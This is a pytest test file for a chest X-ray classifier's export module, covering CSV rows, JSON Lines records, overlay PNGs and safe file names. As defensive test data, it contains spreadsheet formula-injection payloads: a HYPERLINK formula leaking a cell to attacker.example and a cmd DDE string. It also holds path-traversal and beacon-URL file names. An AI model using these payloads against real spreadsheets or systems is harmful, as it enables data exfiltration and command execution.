"""Per-file records as CSV rows, JSON Lines and overlay PNGs."""

from __future__ import annotations

import csv
import io
import json

import cv2
import numpy as np
import pytest

from lungviz.inference.modality import ModalityAssessment
from lungviz.inference.prediction import ModelResult
from lungviz.reporting.export import (
    CSV_COLUMNS,
    MAX_FILENAME_BYTES,
    OverlayNames,
    file_record,
    overlay_filename,
    png_bytes,
    to_csv,
    to_json_lines,
)
from lungviz.reporting.overlay import overlay_heatmap
from tests.images_factory import chest_radiograph
from tests.model_factory import model_result

RECORD_KEYS = ["file", "error", "task", "modality", "warning", "lungs", "models", "agreement"]


def pneumonia_result(name: str, architecture: str, p_pneumonia: float, threshold: float) -> ModelResult:
    """An X-ray model's answer as `Classifier.run` gives it, explaining the class it predicted."""
    return model_result(name, p_pneumonia, threshold, architecture=architecture, seconds=0.123456)


RESULTS = [
    pneumonia_result("lite0", "efficientnet_lite0", 0.8734567891, 0.41),
    pneumonia_result("cnn", "simple_cnn", 0.2, 0.55),
]
GOOD = file_record(
    "chest.png",
    task="xray-pneumonia",
    modality=ModalityAssessment("xray", 0.31234, "gate").to_dict(),
    warning="Looks like an X-ray, but the score is close to the limit",
    results=RESULTS,
)
REJECTED = file_record("notes.png", error="notes.png: not an image this reader knows (PNG, JPEG, TIFF, DICOM)")


def csv_rows(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(text))
    return list(reader.fieldnames), list(reader)


@pytest.mark.parametrize(
    ("record", "expected"),
    [
        (
            GOOD,
            [
                {
                    "model": r.name,
                    "architecture": r.architecture,
                    "predicted": r.predicted,
                    "threshold": str(r.threshold),
                    "positive_class": "PNEUMONIA",
                    "positive_probability": str(round(r.positive_probability, 6)),
                    "explained_class": r.predicted,
                    "method": "gradcam",
                    "seconds": str(round(r.seconds, 4)),
                    "error": "",
                    "task": "xray-pneumonia",
                    "modality": "xray",
                    "modality_score": str(GOOD["modality"]["score"]),
                    "warning": GOOD["warning"],
                }
                for r in RESULTS
            ],
        ),
        (
            REJECTED,
            [
                {
                    "model": "",
                    "predicted": "",
                    "positive_probability": "",
                    "error": REJECTED["error"],
                    "task": "",
                    "modality": "",
                    "warning": "",
                }
            ],
        ),
    ],
    ids=["two models", "rejected file"],
)
def test_csv_has_one_row_per_file_and_model_and_keeps_rejected_files(record, expected):
    header, rows = csv_rows(to_csv([record]))
    assert header == CSV_COLUMNS
    assert len(rows) == len(expected)
    for row, wanted in zip(rows, expected, strict=False):
        assert row["file"] == record["file"]
        assert {key: row[key] for key in wanted} == wanted


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://attacker.example/?leak="&A1,"chest.png")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_quoted(text):
    """OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading single quote."""
    record = file_record(text, error=f"{text}: not an image", warning=text)
    (row,) = csv_rows(to_csv([record]))[1]
    assert row["file"] == "'" + text
    assert row["warning"] == "'" + text
    assert row["error"] == f"'{text}: not an image"


def test_csv_numbers_stay_numbers_and_plain_text_stays_as_is():
    """A negative number is a value, not a formula: only text cells are quoted."""
    record = file_record(
        "IM-0001-0001.dcm",
        task="xray-pneumonia",
        modality=ModalityAssessment("xray", -0.75, "gate").to_dict(),
        results=[pneumonia_result("-lite0", "efficientnet_lite0", 0.8, 0.4)],
    )
    (row,) = csv_rows(to_csv([record]))[1]
    assert row["file"] == "IM-0001-0001.dcm"
    assert row["modality_score"] == "-0.75"
    assert row["model"] == "'-lite0"
    assert row["positive_probability"] == "0.8"


@pytest.mark.parametrize("records", [[GOOD, REJECTED], [REJECTED, GOOD]], ids=["good first", "rejected first"])
def test_json_lines_give_one_parseable_line_per_record_in_order(records):
    lines = to_json_lines(records).splitlines()
    parsed = [json.loads(line) for line in lines]
    assert [list(record) for record in parsed] == [RECORD_KEYS] * len(records)
    assert parsed == records
    by_file = {record["file"]: record for record in parsed}
    assert [m["name"] for m in by_file["chest.png"]["models"]] == ["lite0", "cnn"]
    assert by_file["notes.png"]["models"] == []
    assert by_file["notes.png"]["error"].startswith("notes.png:")


def test_png_round_trips_to_the_same_rgb_overlay():
    gray = chest_radiograph(120, 96)
    rows, columns = np.mgrid[:120, :96]
    heat = np.exp(-((rows - 40) ** 2 + (columns - 30) ** 2) / 400.0)  # off-centre: a flip or transpose shows
    rgb = overlay_heatmap(gray, heat, opacity=0.6, colormap="jet")
    assert not np.array_equal(rgb[..., 0], rgb[..., 2]), "the overlay must be coloured to catch a channel swap"
    decoded = cv2.imdecode(np.frombuffer(png_bytes(rgb), np.uint8), cv2.IMREAD_UNCHANGED)
    np.testing.assert_array_equal(cv2.cvtColor(decoded, cv2.COLOR_BGR2RGB), rgb)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("chest.png", "chest__lite0.png"),
        ("scan.tar.gz", "scan.tar__lite0.png"),
        ("IM0001", "IM0001__lite0.png"),
        ("../../etc/passwd", "_._.._etc_passwd__lite0.png"),
        ("![beacon](http://127.0.0.1:8600/beacon.png).png", "![beacon](http___127.0.0.1_8600_beacon.png)__lite0.png"),
        ('C:\\Users\\me\\x<1>|"?*.dcm', "C__Users_me_x_1_______lite0.png"),
        (".hidden.png", "_hidden__lite0.png"),
        ("tab\there\n.png", "tab_here___lite0.png"),
    ],
)
def test_overlay_names_hold_no_path_separator_or_character_a_file_system_refuses(source, expected):
    assert overlay_filename(source, "lite0") == expected


@pytest.mark.parametrize("character", ["a", "é", "肺", "🫁"], ids=["ascii", "2-byte", "3-byte", "4-byte"])
def test_long_names_are_cut_to_the_limit_keeping_their_start_and_a_hash_that_tells_them_apart(character):
    first, second = character * 250 + ".png", character * 249 + "b.png"
    names = [overlay_filename(source, "efficientnet-lite0") for source in (first, second)]
    assert names[0] != names[1]
    for name in names:
        assert len(name.encode()) <= MAX_FILENAME_BYTES
        assert name.startswith(character * 10)
        assert name.endswith("__efficientnet-lite0.png")
        name.encode().decode()  # cut on a character boundary
    assert overlay_filename(first, "efficientnet-lite0") == names[0], "the same name must always give the same file"


def test_an_export_never_gives_two_files_the_same_overlay_name():
    """Same stems, names equal but for case or unsafe characters, and a name that looks like a prefixed one."""
    sources = ["xray.bmp", "xray.tiff", "same.png", "same.jpg", "a/chest.png", "b/chest.png", "CHEST.PNG", "a:b.png"]
    sources += ["a?b.png", "002-xray.png"]
    names = OverlayNames()
    claimed = [names.claim(index, source, "lite0") for index, source in enumerate(sources)]
    assert len({name.casefold() for name in claimed}) == len(sources)
    assert claimed[:4] == ["xray__lite0.png", "001-xray__lite0.png", "same__lite0.png", "003-same__lite0.png"]
    assert all(len(name.encode()) <= MAX_FILENAME_BYTES for name in claimed)


def test_lungs_and_lung_attention_reach_the_json_record_and_the_csv():
    from dataclasses import replace

    looked = replace(pneumonia_result("a", "x", 0.8, 0.5), lung_attention=0.61234, heatmap_peak=(12, 34))
    unseen = pneumonia_result("b", "y", 0.2, 0.5)
    lungs = {"found": True, "box": [1, 2, 30, 40], "fraction": 0.25}
    record = file_record("chest.png", task="xray-pneumonia", lungs=lungs, results=[looked, unseen])
    assert record["lungs"] == lungs
    assert [(m["lung_attention"], m["heatmap_peak"]) for m in record["models"]] == [(0.6123, [12, 34]), (None, None)]
    rows = list(csv.DictReader(io.StringIO(to_csv([record, file_record("bad.png", error="not an image")]))))
    assert [(row["lungs_found"], row["lung_attention"]) for row in rows] == [("True", "0.6123"), ("True", ""), ("", "")]
